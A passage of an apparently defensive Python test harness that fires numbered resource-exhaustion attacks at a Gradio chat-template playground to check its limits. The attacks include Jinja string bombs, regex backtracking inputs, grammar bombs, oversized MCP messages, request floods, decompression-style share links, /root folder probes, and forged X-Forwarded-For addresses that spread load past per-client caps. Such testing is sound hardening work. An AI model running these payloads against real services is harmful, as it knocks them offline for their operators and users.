) -> tuple[bool, str, float]:
    """One MCP tool call from `address`: (refused or failed, what it said, seconds)."""
    import asyncio
    from datetime import timedelta

    from mcp import ClientSession
    from mcp.client.streamable_http import streamable_http_client

    async def called():
        http = httpx.AsyncClient(headers={"X-Forwarded-For": address}, timeout=timeout)
        async with (
            http,
            streamable_http_client(run.url + "gradio_api/mcp/", http_client=http) as (
                read,
                write,
                _,
            ),
        ):
            async with ClientSession(
                read, write, read_timeout_seconds=timedelta(seconds=timeout)
            ) as session:
                await session.initialize()
                return await session.call_tool(tool, arguments)

    started = time.perf_counter()
    try:
        result = asyncio.run(called())
    except Exception as error:  # noqa: BLE001 - a refusal or a timeout, said as it came
        return True, f"{type(error).__name__}: {error}"[:300], time.perf_counter() - started
    text = " ".join(getattr(item, "text", "") for item in result.content)
    return bool(result.isError), text[:300], time.perf_counter() - started


def mcp_callers(run: Run) -> Outcome:
    """Two heavy MCP tool calls from the attacker (a chat-template check that loops, a replay of a
    big paste a character at a time: each within the attacker's share of its kind), then a heavy
    call (an export) from another MCP caller."""
    looping = {"template_text": QWEN3_TEXT, "chat_template_text": LOOPING_JINJA}
    replay = {
        "template_text": QWEN3_TEXT,
        "prefix": "",
        "generation": _big_generation(400_000),
        "tools_text": "",
        "chunking": "chars:1",
    }
    with ThreadPoolExecutor(max_workers=2) as pool:
        heavy = [
            pool.submit(_mcp_call, run, ATTACKER, "conformance", looping, PATIENCE),
            pool.submit(_mcp_call, run, ATTACKER, "replay", replay, PATIENCE * 2),
        ]
        time.sleep(4)
        other = _mcp_call(run, OTHER_CALLER, "export", {"template_text": QWEN3_TEXT}, PATIENCE)
        attacker = [future.result() for future in heavy]
    return Outcome(
        max(seconds for _, _, seconds in attacker),
        next((said for refused, said, _ in attacker if refused), attacker[0][1]),
        sum(refused for refused, _, _ in attacker),
        {
            "other_refused": other[0],
            "other_said": other[1],
            "other_seconds": other[2],
            "attacker": attacker,
        },
    )


def odd_inputs(run: Run) -> Outcome:
    """The small leaks: a ?chunk= of thousands of digits, a template number of thousands of digits,
    groups nested hundreds deep, and folder probes of the home folder and a missing one."""
    started = time.perf_counter()
    said = {}
    page = _page(run)
    try:
        status = page.open({"sample": "qwen3/text-then-tool-calls", "chunk": "7" * 5000})[-1].get(
            "status"
        )
        said["chunk digits"] = " ".join(re.sub(r"<[^>]+>", " ", str(status)).split())[:300]
    except Exception as error:  # noqa: BLE001 - the page failed: say how
        said["chunk digits"] = f"the page failed: {error}"[:300]
    finally:
        page.close()
    long_number = QWEN3_TEXT[:-1] + ', "version": 1' + "0" * 5000 + "}"
    _, result, _ = call(run, "parse", [long_number, "", "hi", ""])
    said["number digits"] = _said(result)
    _, result, _ = call(run, "parse", [with_pattern("(" * 700 + "n" + ")" * 700), "", "n", ""])
    said["nested groups"] = _said(result)
    answers = []
    for folder in ("~", "/root", "/root/no-such-folder-here", "/no/such/top/folder"):
        _, result, _ = call(run, "conformance", [QWEN3_TEXT, "", folder, "", ""])
        answers.append(_said(result))
    said["folders"] = answers
    return Outcome(
        time.perf_counter() - started,
        json.dumps(said)[:300],
        details={"said": said, "distinct_folder_answers": len(set(answers))},
    )


def client_workers(run: Run) -> Outcome:
    """One client starting every kind of worker job at once: a check, an inference, a comparison
    with transformers and a prompt render, each of a chat template or pattern that loops."""
    looping_model = model_copy(run, "looping-workers", LOOPING_JINJA)
    started = time.perf_counter()
    jobs = {
        "page_check_chat_template": {"template-editor": QWEN3_TEXT, "chat-template": LOOPING_JINJA},
        "page_infer_chat_template": {"chat-template": LOOPING_JINJA},
        "page_compare_reference": {
            "template-editor": BACKTRACKING,
            "prefix": "<s>",
            "generation": "a" * 36 + "b",
        },
        "page_generate": {"model-name": str(looping_model), "user": "Hi"},
    }
    counted = []

    def count_workers():
        for _ in range(40):
            counted.append(max(0, len(worker_processes(run)) - 1))
            time.sleep(0.25)

    counter = threading.Thread(target=count_workers, daemon=True)
    counter.start()
    with ThreadPoolExecutor(max_workers=len(jobs)) as pool:
        results = list(pool.map(lambda item: _one_page_job(run, *item), jobs.items()))
    counter.join()
    refused = [said for ok, said in results if not ok]
    return Outcome(
        time.perf_counter() - started,
        (refused[0] if refused else results[-1][1])[:300],
        len(refused),
        {"most_workers": max(counted, default=0), "results": results},
    )


def _one_page_job(run: Run, listener: str, values: dict) -> tuple[bool, str]:
    from tests.support.load_sessions import PageFailure, PageRefused

    page = _page(run)
    try:
        outputs = page.run(listener, values, timeout=PATIENCE)
        texts = [v for output in outputs for v in output.values() if isinstance(v, str) and v]
        text = " ".join(re.sub(r"<[^>]+>", " ", " ".join(texts)).split())
        if "PLAYGROUND_LIMITS client_worker_mb" in text:
            return False, text[text.find("you already") :][:300]
        return True, text[-300:]
    except PageRefused as error:
        return False, str(error)
    except PageFailure as error:
        return True, str(error)
    finally:
        page.close()


def _constrained_generate(run: Run, template: dict, tools: list) -> tuple[str, float | None]:
    """Generate live through the page, constrained to `template` with `tools` (one token of the
    demo model): (the model note, or what failed; the seconds it took, None past PATIENCE)."""
    from tests.support.load_sessions import PageFailure, PageRefused

    page = _page(run)
    started = time.perf_counter()
    values = {
        "user": "Hi",
        "live-tools": json.dumps(tools),
        "constrain": True,
        "tool-choice": "auto",
        "max-new-tokens": 1,
        "use-model-template": False,
        "template-editor": json.dumps(template),
    }
    try:
        outputs = page.run("page_generate", values, timeout=PATIENCE)
        # The last note written (an output left alone is an update object, not text); without
        # one, the last status (a refusal or an error said there).
        said = next(
            (
                o[name]
                for name in ("model-note", "status")
                for o in reversed(outputs)
                if isinstance(o.get(name), str) and o[name]
            ),
            "",
        )
        said = re.sub(r"<[^>]+>", " ", said)
        return " ".join(said.split()), time.perf_counter() - started
    except (PageFailure, PageRefused) as error:
        return str(error), time.perf_counter() - started
    except Exception:  # noqa: BLE001 - still running at PATIENCE
        return "still running", None
    finally:
        page.close()


def grammar_bomb(run: Run) -> Outcome:
    """Generate live constrained to the template, twice: tools whose schema doubles at every level
    (`doubling_tools`), and a template of many optional fields (`many_optional_fields`)."""
    levels, fields = (14, 12) if BOUNDED["value"] else (30, 29)
    said, took = {}, {}
    said["tools"], took["tools"] = _constrained_generate(
        run, CALL_LIST_TEMPLATE, doubling_tools(levels)
    )
    said["fields"], took["fields"] = _constrained_generate(run, many_optional_fields(fields), [])
    longest = None if None in took.values() else max(took.values())
    return Outcome(longest, said["tools"][:300], details={"said": said, "seconds": took})


# -- round three: what a session keeps -----------------------------------------------------


def _config(run: Run) -> dict:
    with client(run, ATTACKER) as http:
        return http.get("/config").json()


def _dependency(config: dict, listener: str) -> dict:
    return next(d for d in config["dependencies"] if d.get("api_name") == listener)


def _page_body(
    config: dict, listener: str, values: dict, session_hash: str, event_data: dict | None
) -> dict:
    """The body a page sends for `listener` (by api name), its inputs those of the page but
    `values` (by elem_id), from page session `session_hash`, with `event_data`."""
    dependency = _dependency(config, listener)
    components = {c["id"]: c for c in config["components"]}
    data = []
    for component_id in dependency["inputs"]:
        component = components[component_id]
        props = component.get("props", {})
        elem_id = props.get("elem_id")
        data.append(
            values[elem_id]
            if elem_id in values
            else (None if component["type"] == "state" else props.get("value"))
        )
    return {
        "data": data,
        "event_data": event_data,
        "fn_index": dependency["id"],
        "trigger_id": None,
        "session_hash": session_hash,
    }


def _page_call(
    run: Run,
    config: dict,
    listener: str,
    values: dict,
    session_hash: str,
    event_data: dict | None = None,
    http: httpx.Client | None = None,
) -> tuple[int, str]:
    """One page listener called as a page's script calls it, from a page that never holds a
    heartbeat (so Gradio never learns it closed): a listener that runs without the queue by
    POST /gradio_api/run/<name>, the others by joining the queue and reading the session's
    stream to the end. (HTTP status, what it answered, shortened)."""
    body = json.dumps(_page_body(config, listener, values, session_hash, event_data)).encode()
    own = http is None
    http = http or client(run, ATTACKER, PATIENCE)
    try:
        if _dependency(config, listener).get("queue") is False:
            answer = http.post(
                f"/gradio_api/run/{listener}",
                content=body,
                headers={"content-type": "application/json"},
            )
            return answer.status_code, answer.text[:300]
        joined = http.post(
            "/gradio_api/queue/join", content=body, headers={"content-type": "application/json"}
        )
        if joined.status_code != 200:
            return joined.status_code, joined.text[:300]
        event_id = joined.json()["event_id"]
        with http.stream(
            "GET", "/gradio_api/queue/data", params={"session_hash": session_hash}
        ) as stream:
            for line in stream.iter_lines():
                if line.startswith("data:"):
                    message = json.loads(line[5:])
                    if message.get("event_id") == event_id and message.get("msg") == (
                        "process_completed"
                    ):
                        return 200, json.dumps(message.get("output"))[:300]
        return 200, "the stream ended"
    except httpx.HTTPError as error:
        return -1, f"{type(error).__name__}"
    finally:
        if own:
            http.close()


def _fresh_sessions(
    run: Run, calls: list[tuple[str, dict, dict | None]], sessions: int, spread: bool = False
) -> Outcome:
    """`sessions` fresh page sessions (8 at once), each making `calls` (listener, values by
    elem_id, event data) in order; how many calls were refused, and what the first refusal or
    the last answer said. `spread`: each session from an address of its own (what one client's
    share cannot stop: only what the server keeps per session can)."""
    import uuid

    config = _config(run)
    started = time.perf_counter()

    def one(number):
        session_hash = uuid.uuid4().hex[:12]
        answers = []
        address = f"10.67.{number // 250}.{number % 250 + 1}" if spread else ATTACKER
        with client(run, address, PATIENCE) as http:
            for listener, values, event_data in calls:
                answers.append(
                    _page_call(run, config, listener, values, session_hash, event_data, http)
                )
        return answers

    with ThreadPoolExecutor(max_workers=8) as pool:
        answers = [
            answer for one_session in pool.map(one, range(sessions)) for answer in one_session
        ]
    refused = [said for status, said in answers if status != 200]
    said = refused[0] if refused else answers[-1][1]
    return Outcome(
        time.perf_counter() - started,
        " ".join(re.sub(r"<[^>]+>", " ", said).split())[:300],
        len(refused),
        {"calls": len(answers)},
    )


def tab_ids(run: Run) -> Outcome:
    """200 fresh page sessions, each choosing an input tab whose id is 15 MB (POST
    /gradio_api/run/page_select_tab, a listener that runs without the queue)."""
    sessions, size = (40, 5_000_000) if BOUNDED["value"] else (200, 15_000_000)
    return _fresh_sessions(run, [("page_select_tab", {}, {"id": "t" * size})], sessions)


def tab_ids_spread(run: Run) -> Outcome:
    """`tab_ids`, each session from an address of its own."""
    sessions, size = (40, 5_000_000) if BOUNDED["value"] else (200, 15_000_000)
    return _fresh_sessions(run, [("page_select_tab", {}, {"id": "t" * size})], sessions, True)


def editor_loads_spread(run: Run) -> Outcome:
    """`editor_loads`, each session from an address of its own."""
    sessions, size = (10, 5_000_000) if BOUNDED["value"] else (25, 15_000_000)
    calls = [
        (
            "page_load_sample",
            {"template-editor": str(number) * size, "sample-picker": SAMPLE.id},
            None,
        )
        for number in range(10)
    ]
    return _fresh_sessions(run, calls, sessions, True)


def editor_loads(run: Run) -> Outcome:
    """25 fresh page sessions, each loading a sample 10 times with a different 15 MB text in
    the template editor (each kept for Restore on a checkout without the cap)."""
    sessions, size = (10, 5_000_000) if BOUNDED["value"] else (25, 15_000_000)
    calls = [
        (
            "page_load_sample",
            {"template-editor": str(number) * size, "sample-picker": SAMPLE.id},
            None,
        )
        for number in range(10)
    ]
    return _fresh_sessions(run, calls, sessions)


def unqueued_flood(run: Run) -> Outcome:
    """The listeners that run without the queue (a tab chosen, Stop, Play's Stop), 3,000 calls
    from one address, 16 at once, each from a fresh page session."""
    import uuid

    config = _config(run)
    listeners = ["page_select_tab", "page_request_stop", "page_replay_stop"]
    started = time.perf_counter()
    clients = threading.local()  # one connection a thread, kept alive, as a flood keeps it

    def one(number):
        if getattr(clients, "http", None) is None:
            clients.http = client(run, ATTACKER, PATIENCE)
        return _page_call(
            run,
            config,
            listeners[number % 3],
            {},
            uuid.uuid4().hex[:12],
            {"id": "paste"},
            clients.http,
        )

    with ThreadPoolExecutor(max_workers=16) as pool:
        answers = list(pool.map(one, range(3_000)))
    refused = [said for status, said in answers if status != 200]
    return Outcome(
        time.perf_counter() - started,
        (refused[0] if refused else answers[-1][1])[:300],
        len(refused),
        {"calls": len(answers)},
    )


def mcp_messages(run: Run) -> Outcome:
    """100 MCP messages of 4 MB in a row: each an `initialize` request padded with 4 MB, to the
    MCP endpoint (POST /gradio_api/mcp/, streamable HTTP), which reads and checks it whole."""
    count, size = (20, 4_000_000) if BOUNDED["value"] else (100, 4_000_000)
    started = time.perf_counter()
    statuses: dict[int, int] = {}
    said = ""
    hello = {"protocolVersion": "2025-06-18", "capabilities": {}, "clientInfo": {"name": "a"}}
    with client(run, ATTACKER, PATIENCE) as http:
        for number in range(count):
            body = json.dumps(
                {
                    "jsonrpc": "2.0",
                    "id": number,
                    "method": "initialize",
                    "params": {**hello, "pad": "p" * size},
                }
            ).encode()
            try:
                answer = http.post(
                    "/gradio_api/mcp/",
                    content=body,
                    headers={
                        "content-type": "application/json",
                        "accept": "application/json, text/event-stream",
                    },
                )
                statuses[answer.status_code] = statuses.get(answer.status_code, 0) + 1
                if answer.status_code >= 400 and not said:
                    said = f"HTTP {answer.status_code}: {answer.text[:200]}"
            except httpx.HTTPError as error:
                statuses[-1] = statuses.get(-1, 0) + 1
                said = said or f"connection closed ({type(error).__name__})"
    accepted = sum(n for status, n in statuses.items() if 200 <= status < 300)
    return Outcome(
        time.perf_counter() - started,
        said or f"all {accepted} accepted",
        count - accepted,
        {"statuses": statuses},
    )


MB_TEXT = 5_000_000


def every_stateful_route(run: Run) -> Outcome:
    """40 fresh page sessions (each from an address of its own), each through the page's
    stateful routes with 5 MB strings in their text inputs and event data: a parse (the generation), the event log's search, the test
    cases, #explain, a results tab, an event row, Reset, Restore and a fix."""
    sessions = 10 if BOUNDED["value"] else 40
    big = "m" * MB_TEXT
    calls = [
        ("page_parse", {"generation": big, "prefix": big[:1_000_000]}, None),
        ("page_set_view", {"log-search": big}, None),
        ("page_run_tests", {"test-cases": big}, None),
        ("page_explain_span", {}, {"selected": big}),
        ("page_select_results_tab", {}, {"id": big}),
        ("page_show_event", {"template-editor": big}, {"selected": big}),
        ("page_reset_template", {"template-editor": big, "tools": big}, None),
        ("page_restore_template", {"template-editor": big}, None),
        ("page_fix_template", {"template-editor": big}, {"fix": "9" * 10_000}),
    ]
    return _fresh_sessions(run, calls, sessions, True)


def editor_routes(run: Run) -> Outcome:
    """40 fresh page sessions (each from an address of its own), each putting 5 MB editor texts through every route that may keep
    the editor's text: a templates/ file chosen, Start from, Reset, Restore, Back, the Fix, a
    sample loaded and the chat-template check (its template is kept with its rows)."""
    sessions = 10 if BOUNDED["value"] else 40
    calls = [
        (
            "page_choose_template",
            {"template-editor": "a" * MB_TEXT, "template-choice": "qwen3"},
            None,
        ),
        ("page_start_from", {"template-editor": "b" * MB_TEXT, "start-from": "qwen3"}, None),
        ("page_reset_template", {"template-editor": "c" * MB_TEXT}, None),
        ("page_restore_template", {"template-editor": "d" * MB_TEXT}, None),
        ("page_restore_back", {"template-editor": "e" * MB_TEXT}, None),
        ("page_load_sample", {"template-editor": "f" * MB_TEXT, "sample-picker": SAMPLE.id}, None),
        ("page_diagnose", {"template-editor": "g" * MB_TEXT}, None),
        (
            "page_check_chat_template",
            {"template-editor": "h" * MB_TEXT, "chat-template": "x"},
            None,
        ),
    ]
    return _fresh_sessions(run, calls, sessions, True)


# -- round four: what the newest surfaces let one visitor allocate ---------------------------


def _dotted_key_template(size: int = 63_000) -> str:
    """The qwen3 template with one unknown top-level key made of "a." repeated, the whole about
    `size` characters: its error quotes the key."""
    base = json.dumps(QWEN3)
    key = "a." * ((size - len(base) - 10) // 2)
    return json.dumps({**QWEN3, key: 1})


def _case_list(count: int) -> str:
    return json.dumps(
        [{"name": f"c{i}", "prefix": "", "generation": "x", "expected": {}} for i in range(count)]
    )


def quoted_key_parses(run: Run) -> Outcome:
    """Four /parse at once, each of a 63 KB template whose unknown top-level key is "a." repeated:
    the error quotes the key, and its redaction used to retry a pattern at every word boundary."""
    template = _dotted_key_template(20_000 if BOUNDED["value"] else 63_000)
    with ThreadPoolExecutor(max_workers=4) as pool:
        results = list(
            pool.map(
                lambda _: call(run, "parse", [template, "", "hello", ""]),
                range(4),
            )
        )
    return _longest(results)


def _open_link(run: Run, params: dict) -> tuple[float, str]:
    """A new page opening a deep link of `params`: (seconds, its last status as plain text)."""
    page = _page(run)
    started = time.perf_counter()
    try:
        outputs = page.open(params)
        said = next(
            (str(o.get("status")) for o in reversed(outputs) if o.get("status")), "no status"
        )
    finally:
        page.close()
    return time.perf_counter() - started, " ".join(re.sub(r"<[^>]+>", " ", said).split())


def quoted_key_link(run: Run) -> Outcome:
    """A share link carrying that template and 80 test cases, opened by a page."""
    from playground.authoring.share import encode_state

    template = _dotted_key_template(20_000 if BOUNDED["value"] else 63_000)
    state = encode_state({"template": template, "test_cases": _case_list(80)})
    seconds, said = _open_link(run, {"state": state})
    return Outcome(seconds, said[:300], 0, {"link_chars": len(state)})


def quoted_key_mcp(run: Run) -> Outcome:
    """Four MCP `parse` calls of that template, at once."""
    template = _dotted_key_template(20_000 if BOUNDED["value"] else 63_000)
    arguments = {"template_text": template, "prefix": "", "generation": "hello", "tools_text": ""}
    with ThreadPoolExecutor(max_workers=4) as pool:
        found = list(
            pool.map(lambda _: _mcp_call(run, ATTACKER, "parse", arguments, PATIENCE), range(4))
        )
    slowest = max(found, key=lambda one: one[2])
    return Outcome(slowest[2], slowest[1], sum(1 for one in found if one[0]))


def _wide_under_long_key(key_chars: int, items: int) -> dict:
    return {"k" * key_chars: [0] * items}


def nested_value_parses(run: Run) -> Outcome:
    """Four /parse at once of a 63 KB template holding one unknown key of 28,000 characters over a
    list of 15,000 zeros: each item's JSON path used to copy the key."""
    key_chars, items = (3_000, 3_000) if BOUNDED["value"] else (28_000, 15_000)
    template = json.dumps(
        {**QWEN3, **_wide_under_long_key(key_chars, items)}, separators=(",", ":")
    )
    with ThreadPoolExecutor(max_workers=4) as pool:
        results = list(
            pool.map(lambda _: call(run, "parse", [template, "", "hello", ""]), range(4))
        )
    outcome = _longest(results)
    outcome.details["template_chars"] = len(template)
    return outcome


def wide_config_export(run: Run) -> Outcome:
    """/export of a tokenizer_config_text of two nested keys over 500,000 zeros (1 MB): the
    answer, pretty-printed, is 5 MB, and its walk writes a path for each zero."""
    items = 50_000 if BOUNDED["value"] else 500_000
    config = json.dumps({"a": {"b": [0] * items}}, separators=(",", ":"))
    status, result, seconds = call(run, "export", [QWEN3_TEXT, config, "transformers"])
    said = result.get("error") if isinstance(result, dict) else result
    size = len(json.dumps(result)) if isinstance(result, dict) else 0
    return Outcome(
        seconds,
        str(said or f"exported, an answer of {size:,} characters")[:300],
        int(status != 200),
        {"answer_chars": size},
    )


def wide_state_link(run: Run) -> Outcome:
    """A share link of a few hundred characters that decompresses to 300 KB: a key of 100,000
    characters over a list of 100,000 zeros, which the link's walk used to copy per zero."""
    import base64
    import zlib

    key_chars = 2_000 if BOUNDED["value"] else 100_000
    raw = json.dumps({"template": QWEN3_TEXT, **_wide_under_long_key(key_chars, 100_000)})
    state = base64.urlsafe_b64encode(zlib.compress(raw.encode(), 9)).decode().rstrip("=")
    seconds, said = _open_link(run, {"state": state})
    return Outcome(
        seconds, said[:300], 0, {"link_chars": len(state), "decompressed_chars": len(raw)}
    )


def emoji_token_reading(run: Run) -> Outcome:
    """The Tokens reading (Read as the demo model's tokenizer) of a 1,000,000-emoji generation,
    twice in a row from one page."""
    from playground.parse.token_reading import READ_DEMO

    count = 100_000 if BOUNDED["value"] else 1_000_000
    page = _page(run)
    started = time.perf_counter()
    said = ""
    try:
        for _ in range(2):
            outputs = page.run(
                "page_set_reading",
                {"read-as": READ_DEMO, "generation": "😀" * count, "template-editor": QWEN3_TEXT},
                timeout=PATIENCE,
            )
            said = next(
                (str(o.get("status")) for o in reversed(outputs) if o.get("status")), "no status"
            )
    finally:
        page.close()
    said = " ".join(re.sub(r"<[^>]+>", " ", said).split())
    return Outcome(time.perf_counter() - started, said[:300])


def prose_token_reading(run: Run) -> Outcome:
    """A held-out variant: the Tokens reading of 200,000 characters of prose (as much as it
    reads), twice in a row from one page."""
    from playground.parse.token_reading import READ_DEMO

    text = ("The weather in Paris is mild today, with rain later. " * 4_000)[:200_000]
    page = _page(run)
    started = time.perf_counter()
    said = ""
    try:
        for _ in range(2):
            outputs = page.run(
                "page_set_reading",
                {"read-as": READ_DEMO, "generation": text, "template-editor": QWEN3_TEXT},
                timeout=PATIENCE,
            )
            said = next(
                (str(o.get("status")) for o in reversed(outputs) if o.get("status")), "no status"
            )
    finally:
        page.close()
    said = " ".join(re.sub(r"<[^>]+>", " ", said).split())
    return Outcome(time.perf_counter() - started, said[:300])


def _deep_config(depth: int, size: int) -> bytes:
    """A tokenizer_config.json of about `size` bytes: `depth` nested lists at each of its keys'
    values, zeros inside."""
    inner = "[" * (depth - 1) + "0" + "]" * (depth - 1)
    count = max(1, size // (len(inner) + 1))
    return ('{"model_max_length": 4096, "x": [' + ",".join([inner] * count) + "]}").encode()


def _upload(http: httpx.Client, name: str, blob: bytes) -> str | None:
    answer = http.post("/gradio_api/upload", files={"files": (name, blob, "application/json")})
    return answer.json()[0] if answer.status_code == 200 else None


def deep_config_exports(run: Run, depth: int = 100, size: int = 1_000_000) -> Outcome:
    """Twelve exports of one tokenizer_config.json upload of `size` bytes nested `depth` deep,
    one after another from one page: pretty-printing multiplies its size by about the depth,
    and each export was a file and Gradio's copy of it."""
    blob = _deep_config(depth, size)
    page = _page(run)
    started = time.perf_counter()
    said, exported = "", 0
    try:
        for number in range(3 if BOUNDED["value"] else 12):
            path = _upload(page.http, f"tokenizer_config_{number}.json", blob)
            if path is None:
                said = "the upload was refused"
                break
            outputs = page.run(
                "page_export_template",
                {
                    "template-editor": QWEN3_TEXT,
                    "tokenizer-config-upload": {
                        "path": path,
                        "orig_name": "tokenizer_config.json",
                        "meta": {"_type": "gradio.FileData"},
                    },
                },
                timeout=PATIENCE,
            )
            note = next(
                (str(o.get("export-note")) for o in reversed(outputs) if o.get("export-note")), ""
            )
            exported += "Exported" in note
            said = " ".join(re.sub(r"<[^>]+>", " ", note).split())
    finally:
        page.close()
    return Outcome(
        time.perf_counter() - started, f"{exported} exported; {said}"[:300], 0, {"depth": depth}
    )


def wide_config_exports(run: Run) -> Outcome:
    """As `deep_config_exports`, nested 30 deep (within the depth cap), 380 KB: as many values as
    the value cap lets one file hold."""
    return deep_config_exports(run, depth=30, size=380_000)


BOMB_JINJA = "{{ 'x' * 2000000000 }}{% for m in messages %}{{ m.content }}{% endfor %}"
DOUBLING_JINJA = (
    "{% set ns = namespace(s='x') %}{% for i in range(40) %}{% set ns.s = ns.s ~ ns.s %}{% endfor %}"
    "{{ ns.s|length }}{% for m in messages %}{{ m.content }}{% endfor %}"
)


def jinja_bombs(run: Run, chat_template: str = BOMB_JINJA) -> Outcome:
    """A chat template building a 2,000,000,000-character string, sent at once to the
    chat-template check (/conformance) and to Infer (a page), from one address."""
    page = _page(run)
    try:
        inferred = page.start(
            "page_infer_chat_template", {"chat-template": chat_template, "use-examples": False}
        )
        checked = call(run, "conformance", [QWEN3_TEXT, chat_template, "", "", ""])
        try:
            outputs = inferred.result(timeout=PATIENCE)
            infer_said = next(
                (str(o.get("inference")) for o in reversed(outputs) if o.get("inference")), ""
            )
        except Exception as error:  # noqa: BLE001 - said in the row
            infer_said = f"{type(error).__name__}: {error}"
    finally:
        page.close()
    said = checked[1]
    if isinstance(said, dict):
        refusals = [
            row.get("detail", "") for row in said.get("situations", []) if not row.get("renderable")
        ]
        said = said.get("error") or (f"{said.get('counts')}; {refusals[0] if refusals else ''}")
    infer_said = " ".join(re.sub(r"<[^>]+>", " ", infer_said).split())
    return Outcome(
        checked[2], f"check: {str(said)[:140]} | infer: {infer_said[:140]}", int(checked[0] != 200)
    )


def jinja_doubling(run: Run) -> Outcome:
    """A held-out variant: the string doubled with `~` in a loop (no multiplication)."""
    return jinja_bombs(run, DOUBLING_JINJA)


ATTACKS = [
    ("1. 66 looping chat-template checks in 1 s", queue_flood),
    ("2. 8 backtracking 'vs transformers'", reference_backtracking),
    ("3a. 8 /parse, lookahead backtracking x40 regions", lookahead_parse),
    ("3b. /replay of 792 KB at chars:1", big_replay),
    ("4a. Generate with a 64,000-character message", long_user_message),
    ("4b. Generate with a looping chat template", looping_chat_template),
    ("5. 8 model loads, each stopped", stopped_loads),
    ("6. 200 MB upload", big_upload),
    ("7. 30 sessions each stepping 1 MB", many_sessions),
    ("8. folder probes", folder_probe),
    ("9. HTML in the chat view", chat_injection),
    ("10. paths, types, caps", hygiene),
    ("11. regex compile bombs at every entrance", compile_bombs),
    ("12. heavy templates, each kept?", kept_templates),
    ("13. a transform repeating 1 MB 4,000 times", amplified_answer),
    ("14. 4 /parse of 248,000 tiny regions", many_regions),
    ("15. lint of a backtracking anchor, 4 + editor", slow_lint),
    ("16. lone surrogates in worker jobs", surrogate_jobs),
    ("17. 190 uploads of 19 MB in a minute", upload_flood),
    ("18. MCP: 2 heavy calls, then another caller", mcp_callers),
    ("19. digits, nesting, folder probes", odd_inputs),
    ("20. one client's jobs in every worker kind", client_workers),
    ("21. a grammar bomb through Generate live's Constrain", grammar_bomb),
    ("22. 200 sessions x a 15 MB tab id", tab_ids),
    ("22b. 22 from 200 addresses", tab_ids_spread),
    ("23. 25 sessions x 10 editor loads of 15 MB", editor_loads),
    ("23b. 23 from 25 addresses", editor_loads_spread),
    ("24. 3,000 calls without the queue, one address", unqueued_flood),
    ("25. 100 MCP messages of 4 MB", mcp_messages),
    ("26. 40 sessions x 9 stateful routes, 5 MB strings", every_stateful_route),
    ("27. 40 sessions x 8 editor routes, 5 MB texts", editor_routes),
    ("28a. 4 /parse quoting a 63 KB key of 'a.'", quoted_key_parses),
    ("28b. a link: that template and 80 test cases", quoted_key_link),
    ("28c. MCP: 4 parse calls quoting that key", quoted_key_mcp),
    ("29a. 4 /parse, a 28 KB key over 15,000 items", nested_value_parses),
    ("29b. /export of a config of 500,000 zeros", wide_config_export),
    ("29c. a link of 300 KB: a 100 KB key, 100,000 items", wide_state_link),
    ("29d. Tokens reading of 1,000,000 emoji, twice", emoji_token_reading),
    ("29e. Tokens reading of 200,000 characters of prose, twice", prose_token_reading),
    ("30a. 12 exports of a 1 MB config 100 deep", deep_config_exports),
    ("30b. 12 exports of a 380 KB config 30 deep", wide_config_exports),
    ("31a. a 2e9-character Jinja string: check + Infer", jinja_bombs),
    ("31b. a Jinja string doubled 40 times: check + Infer", jinja_doubling),
]
# The attacks whose footprint is read later (seconds after the attack): what sessions keep.
SETTLE = {name: 10.0 for name, _ in ATTACKS[21:]}


if __name__ == "__main__":
    _victim_main(sys.argv[1], int(sys.argv[2]))
